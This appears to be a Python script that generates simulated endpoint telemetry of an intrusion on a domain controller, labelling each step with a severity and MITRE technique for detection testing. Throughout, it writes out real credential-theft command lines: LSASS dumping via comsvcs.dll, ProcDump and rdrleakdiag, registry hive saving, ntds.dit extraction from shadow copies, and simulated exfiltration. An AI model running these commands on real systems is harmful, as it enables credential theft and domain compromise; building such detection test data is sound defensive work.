"""Operators with an implant on a domain controller try one way after the other to the memory of LSASS, the hives and the
directory, and take the files away. Resembles the hands-on part of intrusions before ransomware (Conti, LockBit)."""
import contextlib

from scenery import Desktop

SETTING = {"start": "2023-03-11T02:17:48", "user": "NORDHAVN\\adm_lars", "home": "C:\\Users\\adm_lars", "computer": "DC01",
           "os_version": (10, 0, 17763)}
MICROSOFT = {"company": "Microsoft Corporation"}
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe"
SHADOW = r"\Device\HarddiskVolumeShadowCopy2"
LSASS = 672


@contextlib.contextmanager
def told(c, sample, what, severity, techniques, about):
    """A behaviour of the sample; the processes that are added to the list it gives count as doers."""
    helpers = []
    with c.behaviour(what, severity, techniques, sample, about):
        yield helpers
    c.behaviours[-1].pids |= {one.pid for one in helpers}
    c.wait(20)


def tool(c, parent, image, line, **more):
    child = c.spawn(parent, image if ":" in image else SYSTEM32 + image, line, **{**MICROSOFT, **more})
    c.load(child, SYSTEM32 + "kernel32.dll")
    return child


def shell(c, parent, line):
    """cmd /c LINE of the implant."""
    return tool(c, parent, "cmd.exe", r"C:\Windows\system32\cmd.exe /C " + line)


def end(c, processes):
    for process in reversed(processes):
        c.exit(process)


def minidump(c, parent, line, target, library=SYSTEM32 + "comsvcs.dll"):
    """rundll32 writes the memory of LSASS."""
    runner = tool(c, parent, "rundll32.exe", line)
    c.load(runner, library)
    c.load(runner, SYSTEM32 + "dbgcore.dll")
    c.drop(runner, target, 49_000_000, chunk=4_000_000)
    return runner


def memory(c, sample):
    line = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Windows\Temp\lsass.dmp full" % LSASS
    with told(c, sample, "dumps LSASS by comsvcs.dll's MiniDump", "critical", "T1003.001",
              ("MiniDump", "lsass.dmp")) as helpers:
        helpers.append(shell(c, sample, line))
        helpers.append(minidump(c, helpers[0], line, r"C:\Windows\Temp\lsass.dmp"))
        end(c, helpers)
    line = r'rundll32 comsvcs.dll #24 %d "C:\ProgramData\d1.bin" full' % LSASS
    with told(c, sample, "dumps LSASS by comsvcs.dll's ordinal 24", "critical", "T1003.001",
              ("comsvcs", "d1.bin")) as helpers:
        helpers.append(minidump(c, sample, line, r"C:\ProgramData\d1.bin"))
        end(c, helpers)
    loop = r"""for /f "tokens=1,2 delims= " %A in ('"tasklist /fi "Imagename eq lsass.exe" | find "lsass""') do """ \
           r"rundll32.exe C:\windows\System32\comsvcs.dll, #+0000^24 %B \Windows\Temp\ho3F.docx full"
    with told(c, sample, "finds LSASS by tasklist and dumps it by a disguised ordinal of comsvcs.dll into a .docx",
              "critical",
              "T1003.001", ("comsvcs", "ho3F.docx")) as helpers:
        outer = shell(c, sample, loop)
        inner = tool(c, outer, "cmd.exe",
                     r'C:\Windows\system32\cmd.exe /c "tasklist /fi "Imagename eq lsass.exe" | find "lsass""')
        helpers += [outer, inner, tool(c, inner, "tasklist.exe", 'tasklist  /fi "Imagename eq lsass.exe" '),
                    tool(c, inner, "find.exe", 'find  "lsass"')]
        helpers.append(minidump(c, outer,
                                r"rundll32.exe  C:\windows\System32\comsvcs.dll, #+000024 %d \Windows\Temp\ho3F.docx full"
                                % LSASS, r"C:\Windows\Temp\ho3F.docx"))
        end(c, helpers)
    with told(c, sample, "copies comsvcs.dll under another name", "medium", ("T1036.003", "T1036", "T1036.005"),
              "syncui.dll") as helpers:
        helpers.append(shell(c, sample, r"copy C:\Windows\System32\comsvcs.dll C:\ProgramData\syncui.dll"))
        c.read(helpers[0], SYSTEM32 + "comsvcs.dll", 1_600_000, chunk=1_000_000)
        c.drop(helpers[0], r"C:\ProgramData\syncui.dll", 1_600_000, chunk=1_000_000)
        end(c, helpers)
    with told(c, sample, "dumps a process by a negative ordinal of a renamed comsvcs.dll", "high", "T1003.001",
              ("syncui.dll", "s.log")) as helpers:
        helpers.append(minidump(c, sample,
                                r"rundll32.exe C:\ProgramData\syncui.dll,#-4294967272 %d C:\ProgramData\s.log full"
                                % LSASS, r"C:\ProgramData\s.log", r"C:\ProgramData\syncui.dll"))
        end(c, helpers)
    with told(c, sample, "dumps LSASS by comsvcs.dll out of PowerShell", "critical", "T1003.001",
              ("comsvcs", "p.out")) as helpers:
        helpers.append(tool(c, sample, POWERSHELL, r'powershell.exe -NoP -C "$p=(Get-Process lsass).Id; rundll32 '
                            r'C:\Windows\System32\comsvcs.dll, MiniDump $p C:\PerfLogs\p.out full"'))
        c.load(helpers[0], r"C:\Windows\System32\amsi.dll")
        helpers.append(minidump(c, helpers[0],
                                r'"C:\Windows\system32\rundll32.exe" C:\Windows\System32\comsvcs.dll MiniDump %d '
                                r"C:\PerfLogs\p.out full" % LSASS, r"C:\PerfLogs\p.out"))
        end(c, helpers)


def more_memory(c, sample):
    dumper = {"company": "Sysinternals - www.sysinternals.com", "description": "Sysinternals process dump utility"}
    for path, options, what in ((r"C:\ProgramData\procdump64.exe", "-accepteula -ma lsass.exe", "ProcDump"),
                                (r"C:\ProgramData\pd.exe", "-accepteula -r -ma %d" % LSASS, "a renamed ProcDump")):
        severity = "critical" if "lsass" in options else "high"
        target = r"C:\ProgramData\out%d.dmp" % len(options)
        with told(c, sample, "dumps LSASS by " + what, severity, "T1003.001", (path.rsplit("\\", 1)[1], target)) as helpers:
            c.drop(sample, path, 400_000, chunk=400_000)
            helpers.append(tool(c, sample, path, "%s %s %s" % (path, options, target), **dumper))
            c.load(helpers[0], SYSTEM32 + "dbghelp.dll")
            c.set_value(helpers[0], r"HKCU\Software\Sysinternals\ProcDump\EulaAccepted", "REG_DWORD", 1)
            c.drop(helpers[0], target, 48_000_000, chunk=4_000_000)
            end(c, helpers)
    with told(c, sample, "dumps LSASS itself by the debugging library", "high", "T1003.001", ("lsass_672.mdmp", "dbgcore")):
        c.load(sample, SYSTEM32 + "dbghelp.dll")
        c.load(sample, SYSTEM32 + "dbgcore.dll")
        c.drop(sample, r"C:\Windows\Temp\lsass_672.mdmp", 47_000_000, chunk=4_000_000)
    with told(c, sample, "dumps LSASS by Windows' leak diagnosis", "high", "T1003.001",
              ("rdrleakdiag", "minidump_672")) as helpers:
        helpers.append(tool(c, sample, "rdrleakdiag.exe",
                            r"rdrleakdiag.exe /p %d /o C:\ProgramData\ld /fullmemdmp /wait 1" % LSASS))
        c.drop(helpers[0], r"C:\ProgramData\ld\minidump_672.dmp", 46_000_000, chunk=4_000_000)
        end(c, helpers)
    exits = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe"
    options = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\lsass.exe"
    with told(c, sample, "has error reporting dump LSASS by silent process exit", "high", ("T1003.001", "T1546.012"),
              ("SilentProcessExit", "lsass.exe")):
        c.key(sample, options)
        c.set_value(sample, options + r"\GlobalFlag", "REG_DWORD", 512)
        c.key(sample, exits, new=True)
        c.set_value(sample, exits + r"\ReportingMode", "REG_DWORD", 2)
        c.set_value(sample, exits + r"\LocalDumpFolder", "REG_SZ", r"C:\ProgramData\sx")
        c.set_value(sample, exits + r"\DumpType", "REG_DWORD", 2)


def hives(c, sample, desktop):
    with told(c, sample, "saves SAM, SECURITY and SYSTEM by reg", "high", ("T1003.002", "T1003.004"),
              ("sam.hiv", "security.hiv", "SAM", "SECURITY")) as helpers:
        for hive in ("sam", "security", "system"):
            line = r"reg save hklm\%s C:\ProgramData\%s.hiv /y" % (hive, hive)
            helpers += [shell(c, sample, line)]
            helpers += [tool(c, helpers[-1], "reg.exe", line.replace("reg ", "reg  "))]
            c.save_key(helpers[-1], "HKLM\\" + hive.upper(), r"C:\ProgramData\%s.hiv" % hive)
            end(c, helpers[-2:])
    with told(c, sample, "the remote registry service saves SAM and SECURITY for someone on the network", "high",
              ("T1003.002", "T1003.004"), ("SAM", "SECURITY", "kZqWvTrb.tmp")) as helpers:
        remote = c.spawn(desktop.services, SYSTEM32 + "svchost.exe",
                         SYSTEM32 + "svchost.exe -k localService -p -s RemoteRegistry",
                         user="NT AUTHORITY\\LOCAL SERVICE", sid="S-1-5-19", **MICROSOFT)
        c.load(remote, SYSTEM32 + "regsvc.dll")
        helpers.append(remote)
        c.save_key(remote, r"HKLM\SAM", r"C:\Windows\System32\kZqWvTrb.tmp")
        c.save_key(remote, r"HKLM\SECURITY", r"C:\Windows\System32\bQxPdLme.tmp")
    with told(c, sample, "copies SAM from a shadow copy by esentutl", "high", ("T1003.002", "T1006"),
              ("esentutl", "s1.db")) as helpers:
        line = r"esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\ProgramData\s1.db"
        helpers.append(tool(c, sample, "esentutl.exe", line))
        c.load(helpers[0], SYSTEM32 + "vssapi.dll")
        c.read(helpers[0], SHADOW + r"\Windows\System32\config\SAM", 131_072)
        c.drop(helpers[0], r"C:\ProgramData\s1.db", 131_072)
        end(c, helpers)
    with told(c, sample, "makes a shadow copy and copies the directory's database from it", "high",
              ("T1003.003", "T1006", "T1003.002"), ("ntds.dit", "HarddiskVolumeShadowCopy", "vssadmin")) as helpers:
        helpers.append(shell(c, sample, "vssadmin create shadow /for=C:"))
        helpers.append(tool(c, helpers[0], "vssadmin.exe", "vssadmin  create shadow /for=C:"))
        c.load(helpers[1], SYSTEM32 + "vss_ps.dll")
        end(c, helpers)
        source = r"\\?\GLOBALROOT%s\Windows\NTDS\ntds.dit" % SHADOW
        copy = shell(c, sample, r"copy %s C:\ProgramData\n.dit" % source)
        helpers.append(copy)
        c.read(copy, SHADOW + r"\Windows\NTDS\ntds.dit", 32_000_000, chunk=4_000_000)
        c.drop(copy, r"C:\ProgramData\n.dit", 32_000_000, chunk=4_000_000)
        c.exit(copy)
    with told(c, sample, "exports the directory by ntdsutil", "critical", "T1003.003", ("ntdsutil", "ntds.dit")) as helpers:
        line = r'ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\ifm" q q'
        helpers.append(shell(c, sample, line))
        helpers.append(tool(c, helpers[0], "ntdsutil.exe", line))
        for name, size in ((r"Active Directory\ntds.dit", 32_000_000), (r"registry\SYSTEM", 16_000_000),
                           (r"registry\SECURITY", 131_072)):
            c.drop(helpers[1], "C:\\ProgramData\\ifm\\" + name, size, chunk=4_000_000)
        end(c, helpers)


def story(c):
    desktop = Desktop(c)
    desktop.murmur(8)
    sample = c.spawn(desktop.explorer, c.home + r"\Desktop\KB5023702_check.exe", integrity="High")
    for name in ("kernel32", "winhttp", "ws2_32"):
        c.load(sample, SYSTEM32 + name + ".dll")
    c.exchange(sample, ("198.51.100.33", 443), 50011, [517, 300], [1400, 600])
    c.wait(30)
    memory(c, sample)
    desktop.murmur(4)
    more_memory(c, sample)
    desktop.murmur(4)
    hives(c, sample, desktop)
    with told(c, sample, "packs the hives and dumps by makecab", "medium", ("T1560.001", "T1560"),
              ("makecab", "d.cab")) as helpers:
        helpers.append(tool(c, sample, "makecab.exe",
                            r"makecab.exe C:\ProgramData\ifm\registry\SECURITY C:\ProgramData\d.cab"))
        c.read(helpers[0], r"C:\ProgramData\ifm\registry\SECURITY", 131_072)
        c.drop(helpers[0], r"C:\ProgramData\d.cab", 60_000)
        end(c, helpers)
    c.read(sample, r"C:\ProgramData\d.cab", 60_000)
    with told(c, sample, "sends the packed files to its server", "medium", ("T1041", "T1048"), "198.51.100.33"):
        c.exchange(sample, ("198.51.100.33", 443), 50033, [14_600] * 16, [300])
    desktop.murmur(5)
